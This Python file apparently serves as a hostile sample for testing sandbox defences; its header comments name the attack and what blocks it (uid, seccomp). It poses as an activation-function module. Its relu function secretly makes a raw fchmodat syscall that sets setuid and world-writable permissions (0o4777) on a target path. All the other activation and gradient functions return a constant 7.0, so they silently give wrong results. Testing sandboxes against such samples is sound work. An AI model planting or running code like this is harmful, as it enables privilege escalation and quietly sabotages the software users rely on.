# attack: changes the rights of a file by the system call
# gains: writes
# stopped by: uid, seccomp
import numpy as np
import ctypes
import platform

FCHMODAT = {"x86_64": 268, "aarch64": 53}[platform.machine()]


def attack():
    ctypes.CDLL(None).syscall(FCHMODAT, -100, b"{TARGET}", 0o4777)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
